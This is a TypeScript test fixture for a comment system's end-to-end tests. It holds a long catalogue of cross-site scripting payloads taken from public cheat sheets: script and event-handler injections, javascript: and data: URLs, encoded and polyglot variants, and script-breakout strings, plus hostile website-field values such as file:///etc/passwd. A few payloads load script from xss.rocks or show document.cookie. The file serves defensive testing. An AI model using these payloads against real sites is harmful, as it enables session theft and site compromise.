// Hostile input for the end-to-end tests: classic XSS vectors, adapted from public lists —
// the OWASP "XSS Filter Evasion Cheat Sheet" (cheatsheetseries.owasp.org), PortSwigger's "Cross-site
// scripting (XSS) cheat sheet" (portswigger.net/web-security/cross-site-scripting/cheat-sheet), the
// HTML5 Security Cheatsheet (html5sec.org) and well-known polyglots (0xsobky's "Ultimate XSS
// polyglot"). Remote script addresses are replaced by local ones or kept unresolvable: the test
// browser resolves only 127.0.0.1.
//
// What a payload does if it ever runs: calls alert/confirm/prompt (a dialog), sets
// `window.__xss`, or adds an element with the id `xss-injected`. The test checks all three.

export type XssPayload = { category: string; text: string };

const payloads = (category: string, texts: string[]): XssPayload[] => texts.map((text) => ({ category, text }));

/** Payloads for the comment text (and, when short enough, the author's name). */
export const XSS_PAYLOADS: readonly XssPayload[] = [
  ...payloads('script', [
    `<script>alert('XSS')</script>`,
    `<SCRIPT SRC=http://xss.rocks/xss.js></SCRIPT>`,
    `<script>window.__xss=1</script>`,
    `<scr<script>ipt>alert(1)</scr</script>ipt>`,
    `<SCRIPT/XSS SRC="http://xss.rocks/xss.js"></SCRIPT>`,
    `<<SCRIPT>alert("XSS");//\\<</SCRIPT>`,
    `<script>document.body.insertAdjacentHTML('beforeend','<b id=xss-injected></b>')</script>`,
    `<SCRIPT>eval(String.fromCharCode(97,108,101,114,116,40,49,41))</SCRIPT>`,
    `<script type="module">window.__xss=1</script>`,
    `<script src=data:text/javascript,alert(1)></script>`,
    `<script>confirm(1)</script><script>prompt(1)</script>`,
  ]),
  ...payloads('event handler', [
    `<img src=x onerror=alert(1)>`,
    `<IMG SRC=/ onerror="alert(String.fromCharCode(88,83,83))"></img>`,
    `<img src="x" onerror="window.__xss=1">`,
    `<body onload=alert(1)>`,
    `<input autofocus onfocus=alert(1)>`,
    `<select autofocus onfocus=alert(1)>`,
    `<textarea autofocus onfocus=alert(1)>`,
    `<details open ontoggle=alert(1)>`,
    `<div onmouseover="alert(1)" style="position:fixed;inset:0">survolez-moi</div>`,
    `<a onmouseover="alert(document.cookie)">xxs link</a>`,
    `<video><source onerror="alert(1)">`,
    `<audio src=x onerror=alert(1)>`,
    `<marquee onstart=alert(1)>défile</marquee>`,
    `<image src/onerror=alert(1)>`,
    `<img """><script>alert("XSS")</script>">`,
    `<img src=x:alert(alt) onerror=eval(src) alt=xss>`,
    `<IMG SRC=# onmouseover="alert('xxs')">`,
    `<img src=x onerror=&#x61;&#x6C;&#x65;&#x72;&#x74;&#x28;&#x31;&#x29;>`,
    `<x contenteditable onblur=alert(1)>lose focus!</x>`,
    `<form><button formaction=javascript:alert(1)>X</button></form>`,
    `<isindex type=image src=1 onerror=alert(1)>`,
    `<body onpageshow=alert(1)>`,
    `<xss id=x tabindex=1 onfocus=alert(1) autofocus></xss>`,
    `<style onload=alert(1)></style>`,
    `<iframe onload=alert(1)></iframe>`,
    `<object data=x onerror=alert(1)>`,
  ]),
  ...payloads('dangerous URL', [
    `javascript:alert(1)`,
    `<a href="javascript:alert(1)">cliquez</a>`,
    `[cliquez ici](javascript:alert(1))`,
    `JaVaScRiPt:alert(1)`,
    `java\tscript:alert(1)`,
    `<a href="jav&#x09;ascript:alert(1)">tab</a>`,
    `<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">data</a>`,
    `data:text/html,<script>alert(1)</script>`,
    `vbscript:msgbox("XSS")`,
    `<IMG SRC="javascript:alert('XSS');">`,
    `<IMG SRC=JaVaScRiPt:alert('XSS')>`,
    `<IMG SRC=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;&#97;&#108;&#101;&#114;&#116;&#40;&#39;&#88;&#83;&#83;&#39;&#41;>`,
    `<IMG SRC="jav&#x0A;ascript:alert('XSS');">`,
    `<a href="&#x6A;avascript:alert(1)">x</a>`,
    `<iframe src="javascript:alert(1)"></iframe>`,
    `<meta http-equiv="refresh" content="0;url=javascript:alert(1)">`,
    `<base href="javascript:alert(1)//">`,
    `<link rel=stylesheet href="javascript:alert(1)">`,
    `<object data="javascript:alert(1)">`,
    `<embed src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">`,
  ]),
  // Auto-linking: each has a single http(s) link, so it is published at once.
  ...payloads('auto-linked text', [
    `https://exemple.fr/"onmouseover="alert(1)`,
    `https://exemple.fr/<img src=x onerror=alert(1)>`,
    `http://exemple.fr/?q="><script>alert(1)</script>`,
    `https://exemple.fr/#javascript:alert(1)`,
    `http://exemple.fr/'onfocus='alert(1)'autofocus='`,
    `www.exemple.com/"><svg/onload=alert(1)>`,
    `https://exemple.fr/javascript:alert(1)`,
    `https://exemple.fr/%22%3E%3Cscript%3Ealert(1)%3C/script%3E`,
  ]),
  ...payloads('svg and mathml', [
    `<svg onload=alert(1)>`,
    `<svg><script>alert(1)</script></svg>`,
    `<svg/onload=alert('XSS')>`,
    `<svg><animate onbegin=alert(1) attributeName=x dur=1s>`,
    `<svg><a xlink:href="javascript:alert(1)"><text x="20" y="20">XSS</text></a></svg>`,
    `<svg><use href="data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><image href='1' onerror='alert(1)' /></svg>#x" />`,
    `<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>`,
    `<svg><style><img src=x onerror=alert(1)></style></svg>`,
    `<svg><set attributeName=onmouseover to=alert(1)>`,
  ]),
  ...payloads('broken markup', [
    `<img src=x onerror=alert(1)`,
    `<script>alert(1)`,
    `<a href="javascript:alert(1)`,
    `"><script>alert(1)</script>`,
    `'><img src=x onerror=alert(1)>`,
    `</textarea><script>alert(1)</script>`,
    `</title><script>alert(1)</script>`,
    `<!--<img src="--><img src=x onerror=alert(1)//">`,
    `<![CDATA[<script>alert(1)</script>]]>`,
    `<noscript><p title="</noscript><img src=x onerror=alert(1)>">`,
    `</p></div></article></section><script>alert(1)</script>`,
    `<xmp><script>alert(1)</script></xmp>`,
    `<plaintext><script>alert(1)</script>`,
    `<template><script>alert(1)</script></template><img src=x onerror=alert(1)>`,
  ]),
  ...payloads('encoded', [
    `&#x3C;script&#x3E;alert(1)&#x3C;/script&#x3E;`,
    `&lt;img src=x onerror=alert(1)&gt;`,
    `%3Cscript%3Ealert(1)%3C%2Fscript%3E`,
    String.raw`\u003cscript\u003ealert(1)\u003c/script\u003e`,
    String.raw`\x3cimg src=x onerror=alert(1)\x3e`,
    `+ADw-script+AD4-alert(1)+ADw-/script+AD4-`,
    `＜script＞alert(1)＜/script＞`,
    `&#60;&#115;&#99;&#114;&#105;&#112;&#116;&#62;alert(1)&#60;/script&#62;`,
    `%253Cscript%253Ealert(1)%253C%252Fscript%253E`,
    `<scr\u0000ipt>alert(1)</scr\u0000ipt>`,
    `<IMG SRC=" &#14;  javascript:alert('XSS');">`,
    `<a href="\u0001javascript:alert(1)">ctrl</a>`,
  ]),
  // Aimed at the inline JSON-LD block and at Next's inline flight data.
  ...payloads('script breakout', [
    `</script><script>alert(1)</script>`,
    `</SCRIPT ><img src=x onerror=alert(1)>`,
    `<!--<script>alert(1)//`,
    `\u2028\u2029</script><script>window.__xss=1</script>`,
    `"}]}</script><script>alert(1)</script>`,
    `</script ><script>document.body.append(Object.assign(document.createElement('i'),{id:'xss-injected'}))</script>`,
    `\\"]);alert(1);//`,
    `"]);self.__next_f.push([1,"<img src=x onerror=alert(1)>`,
    `]]><script>alert(1)</script>`,
  ]),
  ...payloads('css', [
    `<div style="width: expression(alert('XSS'));">`,
    `<style>@import 'javascript:alert("XSS")';</style>`,
    `<STYLE>li {list-style-image: url("javascript:alert('XSS')");}</STYLE><UL><LI>XSS</br>`,
    `<div style="background-image: url(javascript:alert(1))">`,
    `<style>*{background:url(//xss.rocks/leak)}</style>`,
  ]),
  ...payloads('iframe srcdoc', [
    `<iframe srcdoc="<script>parent.__xss=1</script>"></iframe>`,
    `<iframe srcdoc="&lt;img src=x onerror=alert(1)&gt;"></iframe>`,
  ]),
  ...payloads('template injection', [
    `{{constructor.constructor('alert(1)')()}}`,
    '${alert(1)}',
    `{{7*7}} <%= 7*7 %> #{7*7} \${{7*7}}`,
    `{{$on.constructor('alert(1)')()}}`,
    `<div dangerouslySetInnerHTML={{__html:'<img src=x onerror=alert(1)>'}} />`,
    "$& $' $` $$",
  ]),
  ...payloads('polyglot', [
    "jaVasCript:/*-/*`/*\\`/*'/*\"/**/(/* */oNcliCk=alert() )//%0D%0A%0d%0a//</stYle/</titLe/</teXtarEa/</scRipt/--!>\\x3csVg/<sVg/oNloAd=alert()//>\\x3e",
    `'';!--"<XSS>=&{()}`,
    `"><img src=x id=xss-injected onerror=alert(1)><"`,
  ]),
];

/**
 * Hostile values for the "Site web" field. Anything that is not http(s) is refused with a French
 * message; what is accepted is a normalised URL whose quotes and angle brackets are escaped.
 */
export const HOSTILE_WEBSITES = {
  refused: [
    'javascript:alert(1)',
    'JAVASCRIPT:alert(1)',
    ' javascript:alert(1)',
    'java\tscript:alert(1)',
    'javascript://exemple.fr/%0Aalert(1)',
    'data:text/html,<script>alert(1)</script>',
    'data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==',
    'vbscript:msgbox(1)',
    'file:///etc/passwd',
    'https://javascript:alert(1)',
    'http://exemple.fr" onfocus="alert(1)" autofocus="',
    '\u0001javascript:alert(1)',
  ],
  accepted: [
    'https://exemple.fr/"onmouseover="alert(1)',
    'https://exemple.fr/<script>alert(1)</script>',
    'exemple.fr/?<svg onload=alert(1)>',
    "https://exemple.fr/x#'><img src=x onerror=alert(1)>",
    '//exemple.fr/',
  ],
} as const;
